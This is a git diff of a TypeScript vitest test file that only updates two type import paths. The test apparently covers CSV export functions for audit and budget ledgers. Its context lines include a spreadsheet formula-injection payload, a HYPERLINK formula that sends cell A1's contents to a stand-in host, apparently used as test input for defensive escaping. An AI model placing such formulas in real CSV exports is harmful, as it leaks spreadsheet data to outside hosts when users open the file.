@@ -2,8 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { accessReportCsv } from '../../functions/audit/api';
 import { toCsv as ledgerCsv } from '../../functions/budget/api';
 import { csvDocument } from '../../functions/http/csv';
-import type { AuditEntry } from '../../shared/domain/audit';
-import type { LedgerEntry } from '../../shared/domain/regelbudget-schemas';
+import type { AuditEntry } from '../../shared/domain/audit/audit';
+import type { LedgerEntry } from '../../shared/domain/regelbudget/regelbudget-schemas';
 
 const formulas = [
   '=HYPERLINK("https://x.example/?d="&A1;"klik")',
